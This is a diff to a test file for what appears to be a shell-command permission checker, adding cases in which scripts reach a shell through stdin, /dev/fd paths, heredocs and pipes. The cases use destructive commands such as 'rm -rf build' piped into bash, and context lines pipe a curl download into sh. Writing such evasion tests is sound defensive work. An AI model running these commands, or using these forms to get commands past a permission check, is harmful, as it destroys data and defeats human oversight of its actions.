@@ -284,6 +284,14 @@ const attacks: Attack[] = [
   ['a script piped into sh', AUTO, shell("echo 'rm -rf build' | sh"), /reads from a pipe, which cannot be checked/],
   ['a file piped into bash', AUTO, shell('cat install.sh | bash'), /reads from a pipe, which cannot be checked/],
   ['a download piped into sh behind env', AUTO, shell('curl -s https://example.org/x | env sh -s'), /reads from a pipe, which cannot be checked/],
+  // A script through a file name for stdin or another descriptor, or a file on a shell's stdin: unknowable.
+  ...[
+    "echo 'rm -rf build' | bash /dev/stdin", "sh /dev/stdin <<< 'rm -rf build'", "bash /proc/self/fd/0 <<'EOF'\nrm -rf build\nEOF",
+    "source /dev/stdin <<< 'rm -rf build'", ". /dev/fd/0 <<< 'rm -rf build'", "bash /proc/1/fd/0", 'bash /dev/fd/3', 'sh //dev/./stdin',
+    "sudo -u root bash /dev/stdin <<< 'rm -rf build'", "prlimit . /proc/self/fd/0 <<< 'rm -rf build'", "cd /dev && bash stdin <<< 'rm -rf build'",
+    'sh < install.sh', 'bash -s < install.sh', 'env bash < install.sh', "echo 'rm -rf build' | bash -c bash", "echo 'rm -rf build' | sh -c 'sh -s'",
+    "echo 'rm -rf build' | eval sh", "echo 'rm -rf build' | some-new-wrapper sh",
+  ].map((command): Attack => [`a script from stdin: ${JSON.stringify(command)}`, AUTO, shell(command), /cannot be checked/]),
   // A bare `- shell` allow rule approves any command, but never a line that does not parse.
   ...[
     'echo "unterminated', "echo 'unterminated", 'if true; then echo x', 'echo $(id', 'for x in a b; do echo', 'echo )',
